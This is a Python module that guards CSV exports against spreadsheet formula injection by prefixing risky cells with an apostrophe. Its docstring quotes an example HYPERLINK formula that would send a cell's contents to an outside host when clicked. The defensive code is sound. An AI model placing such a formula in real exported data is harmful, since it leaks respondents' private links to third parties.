"""Files that a spreadsheet program may open (CSV now, XLSX later): one rule for every cell.

A cell that begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is run as a formula
by Excel, LibreOffice and Google Sheets: a roster name ``=HYPERLINK("http://x/?"&A1,"x")`` in the
invitations CSV (which holds every respondent's link) would send a link out when clicked. Such a
text is written with a leading apostrophe, OWASP's rule for CSV injection; the spreadsheet shows
the text as it was. Numbers (``-8.33`` as a number, or written as one) are left as they are, so
that the results stay numbers for analysts.
"""
from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?(?:\d+(?:[.,]\d*)?|[.,]\d+)(?:[eE][+-]?\d+)?")


def safe_cell(value):
    """``value`` as a spreadsheet should receive it: a text that would start a formula gets a
    leading apostrophe; anything else (numbers, None, plain text) is returned unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS) \
            and not _NUMBER.fullmatch(value):
        return "'" + value
    return value


def csv_text(header: Iterable, rows: Iterable[Iterable], lineterminator: str = "\n") -> str:
    """A CSV with a header row, every cell through safe_cell."""
    out = io.StringIO()
    writer = csv.writer(out, lineterminator=lineterminator)
    writer.writerow([safe_cell(h) for h in header])
    for row in rows:
        writer.writerow([safe_cell(value) for value in row])
    return out.getvalue()
